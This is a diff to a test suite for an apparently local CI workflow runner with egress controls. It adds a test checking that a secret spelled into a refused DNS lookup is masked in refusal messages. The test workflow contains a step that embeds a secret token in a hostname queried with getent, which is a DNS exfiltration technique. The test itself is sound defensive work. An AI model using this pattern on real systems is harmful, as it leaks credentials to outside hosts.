@@ -237,6 +237,23 @@ jobs:
   assert.equal(narrowed.code, 0, narrowed.json.jobs[0]!.steps.flatMap((s) => s.log).join('\n'));
   assert.match(narrowed.json.jobs[0]!.egress!.refusals.join('\n'), /meta\.test.*not-allowlisted/);
 
+  // A secret spelt into a refused DNS name is masked in the refusal descriptions (issue 13, item 15).
+  const spelt = await run(
+    repo(`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: getent hosts "\${{ secrets.TOKEN }}.other.test" || echo refused
+`),
+    ...ALLOW,
+    '--secret',
+    'TOKEN=tok4711secret',
+  );
+  const described = JSON.stringify(spelt.json.jobs[0]!.egress);
+  assert.match(described, /\*\*\*\.other\.test/, described);
+  assert.doesNotMatch(described + spelt.stderr, /tok4711secret/);
+
   const widened = await run(
     repo(`on: push
 jobs:
